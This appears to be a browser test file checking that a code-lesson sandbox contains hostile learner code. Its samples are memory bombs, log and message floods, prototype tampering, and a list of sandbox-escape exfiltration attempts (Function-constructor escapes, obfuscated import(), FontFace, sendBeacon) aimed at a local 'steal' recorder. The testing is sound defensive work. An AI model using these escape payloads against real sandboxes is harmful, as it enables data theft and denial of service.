import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { startStaticServer } from './server.ts';
import { openLesson, openSite, responsiveness, run, setCode, type Site } from './site.ts';

// Untrusted learner code (or a shared link) attacks the page; each test checks what a learner
// would notice: the page still answers a click quickly, the console says what happened, and the
// next correct run gives the right answer on the same (warm) workers.

const settings = { threads: 2, params: { increments: 10 } };

/** Opens the lesson with `code`, runs it, and checks the page answers a click while it runs. */
async function attack(site: Site, page: Page, code: string): Promise<string> {
  await openOnce(site, page, code);
  await page.getByRole('button', { name: '▶ Run' }).click();
  expect(await responsiveness(page)).toBeLessThan(200);
  await page.getByRole('button', { name: '▶ Run' }).waitFor({ timeout: 30_000 });
  expect(await responsiveness(page)).toBeLessThan(200);
  return page.getByTestId('console').innerText();
}

/**
 * Opens the race lesson with `code` on a fresh page; on a page that has it open already, pastes the
 * code into the editor instead (the same page and warm workers: an earlier attack must not have
 * poisoned them, and a reload per case would cost CI ~2 s each).
 */
async function openOnce(site: Site, page: Page, code: string): Promise<void> {
  if (page.url().endsWith('#/race-conditions')) {
    await setCode(page, code);
    return;
  }
  // Without headers the service worker isolates the page with one reload: let it happen first.
  await page.goto(site.url);
  await page.waitForFunction(() => crossOriginIsolated === true, null, { timeout: 30_000 });
  await openLesson(page, site.url, 'race-conditions', { code, ...settings });
  await page.waitForFunction(() => crossOriginIsolated === true, null, { timeout: 30_000 });
  // Measure the attack, not the editor loading.
  await page.locator('.monaco-editor').waitFor({ timeout: 60_000 });
}

/** Loads the lesson's solution into the editor (no reload: same workers) and checks its answer. */
async function nextRunIsRight(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Solution' }).click();
  await run(page);
  expect(await page.getByTestId('actual').innerText()).toBe('20');
  expect(await page.getByTestId('console').innerText()).toMatch(/Finished in/);
}

const body = (lines: string) => `export default function (t: Thread) {\n${lines}\n}\n`;

describe('containment on a host with the headers', () => {
  let site: Site;
  beforeAll(async () => {
    site = await openSite();
  });
  afterAll(() => site.close());
  // One page for every case, as in a learner's session: each case must leave it fit for the next.
  let shared: Page | null = null;
  const sharedPage = async () => (shared ??= await site.page({ keep: true }));

  it('a memory bomb the engine refuses says "too much memory", and the next run is right', async () => {
    const page = await sharedPage();
    let crashed = false;
    page.on('crash', () => (crashed = true));
    const text = await attack(
      site,
      page,
      body(
        `  const keep: string[] = [];\n  if (t.id === 0) for (let k = 0; ; k++) keep.push('x'.repeat(2 ** 30));`,
      ),
    );
    expect(text).toMatch(/Thread 0: Line 3.*your code used too much memory/);
    await nextRunIsRight(page);
    expect(crashed).toBe(false);
  });

  // A heap-filling loop is tests/memory.browser.test.ts's: when the heap limit wins the race with
  // the watchdog, the pool frame's process ends, which Playwright reports as a crash of this page.

  it('80 million characters of log output are cut to a bounded console', async () => {
    const page = await sharedPage();
    const text = await attack(
      site,
      page,
      body(
        `  const s = 'y'.repeat(200_000);\n  for (let i = 0; i < 200; i++) { t.log(s); console.log(s); }`,
      ),
    );
    expect(text).toMatch(/line cut: 200,000 characters/);
    expect(text).toMatch(/more lines not shown/);
    expect(text.length).toBeLessThan(100_000);
    await nextRunIsRight(page);
  });

  it('a postMessage flood from learner code never reaches the page', async () => {
    const page = await sharedPage();
    const text = await attack(
      site,
      page,
      body(
        `  for (let i = 0; i < 1e7; i++) (globalThis as any).postMessage({ i, junk: 'z'.repeat(1000) });`,
      ),
    );
    expect(text).toMatch(/postMessage: lesson code runs as one thread/);
    await nextRunIsRight(page);
  });

  it('async code is refused with a message that names the problem', async () => {
    const page = await sharedPage();
    const text = await attack(
      site,
      page,
      `export default async function (t: Thread) {\n  await fetch('/x');\n  throw new Error('late');\n}\n`,
    );
    expect(text).toMatch(/must be synchronous.*remove async/);
    await nextRunIsRight(page);
  });

  it.each([
    [
      'Array.prototype.push = null',
      '  Array.prototype.push = null as any;',
      /read only property 'push'/,
    ],
    ['Object.prototype.x = 1', '  (Object.prototype as any).x = 1;', /not extensible|read only/],
    ['replacing Atomics.add', '  (Atomics as any).add = () => 0;', /read only property 'add'/],
    ['close()', '  (globalThis as any).close();', /close: lesson code runs as one thread/],
    [
      'a timer left behind',
      '  setInterval(() => { t.shared[0] = 99; }, 1);',
      /timers are not available/,
    ],
  ])(
    'tampering (%s) fails at its line and the next correct run is right',
    async (_n, line, says) => {
      const page = await sharedPage();
      const text = await attack(site, page, body(line));
      expect(text).toMatch(/Thread \d: Line 2/);
      expect(text).toMatch(says);
      await nextRunIsRight(page);
    },
  );
});

describe('no request leaves for another origin, on a host that sends no headers', () => {
  let site: Site;
  let recorder: Awaited<ReturnType<typeof startStaticServer>>;
  beforeAll(async () => {
    // GitHub Pages-like: no headers at all; the service worker isolates the page (one reload).
    site = await openSite({ headers: false });
    recorder = await startStaticServer({ root: 'dist', headers: false });
  });
  afterAll(async () => {
    await recorder.close();
    await site.close();
  });

  const at = (path: string) => `${recorder.url}${path}`;
  // One page for every attack: the service worker installs (and isolates the page) once, not per
  // case; every attack still reloads the lesson and ends with a correct run on the same page.
  let shared: Page | null = null;
  const sharedPage = async () => (shared ??= await site.page({ keep: true }));
  const attacks: Array<[string, (u: string) => string]> = [
    ['fetch', (u) => `fetch('${u}')`],
    [
      'fetch through the global prototype',
      (u) => `Object.getPrototypeOf(globalThis).fetch('${u}')`,
    ],
    [
      'a constructor to the real global',
      (u) => `(t.log as any).constructor('return fetch')()('${u}')`,
    ],
    ['Function to the global', (u) => `Function('return globalThis')().fetch('${u}')`],
    ['import() through Function', (u) => `Function('u', 'return imp' + 'ort(u)')('${u}')`],
    ['FontFace', (u) => `new (FontFace as any)('f', 'url(${u})').load()`],
    ['importScripts', (u) => `(importScripts as any)('${u}')`],
    ['XMLHttpRequest', (u) => `new (XMLHttpRequest as any)().open('GET', '${u}')`],
    ['a nested worker', (u) => `new (Worker as any)('${u}')`],
    ['caches', () => `(caches as any).open('x')`],
    ['indexedDB', () => `(indexedDB as any).open('x')`],
    ['navigator.sendBeacon', (u) => `(navigator as any).sendBeacon('${u}')`],
  ];

  it.each(attacks)('%s is refused and nothing arrives', async (name, make) => {
    const page = await sharedPage();
    const url = at(`steal-${name.replace(/\W+/g, '-')}`);
    const text = await attack(site, page, body(`  ${make(url)};`));
    expect(text).toMatch(/Thread \d: (Line 2|.*not available|.*disabled)/);
    // What the learner reads: the stub says why; a path that leads nowhere finds no function.
    expect(text).toMatch(
      /not available|disabled|runs as one thread|not a valid constructor|fetch is not a function/,
    );
    await nextRunIsRight(page);
    expect(recorder.requests.filter((p) => p.includes('steal'))).toEqual([]);
  });

  // Step and Explore run learner code in their own worker: the same wall holds there.
  it.each(attacks.filter(([name]) => !/nested worker|importScripts/.test(name)))(
    '%s under Explore is refused and nothing arrives',
    async (name, make) => {
      const page = await sharedPage();
      const url = at(`explore-steal-${name.replace(/\W+/g, '-')}`);
      await openOnce(
        site,
        page,
        body(`  try { ${make(url)}; } catch {}\n  Atomics.add(t.shared, 0, 1);`),
      );
      await page.getByRole('tab', { name: /Explore/ }).click();
      // An earlier case's outcomes are marked as from earlier code.
      if (await page.getByTestId('outcomes').count())
        await page.getByTestId('explore-stale').waitFor({ timeout: 5000 });
      await page.getByRole('button', { name: /Explore all/ }).click();
      // This code's outcomes: on the shared page an earlier case's stay shown, marked as stale.
      await page.waitForFunction(
        () =>
          document.querySelector('[data-testid=outcomes]') &&
          !document.querySelector('[data-testid=explore-stale]'),
        null,
        { timeout: 30_000 },
      );
      expect(await responsiveness(page)).toBeLessThan(200);
      // Give a request that did leave time to arrive at the recorder.
      await page.evaluate(() => new Promise((r) => setTimeout(r, 300)));
      expect(recorder.requests.filter((p) => p.includes('steal'))).toEqual([]);
    },
  );
});
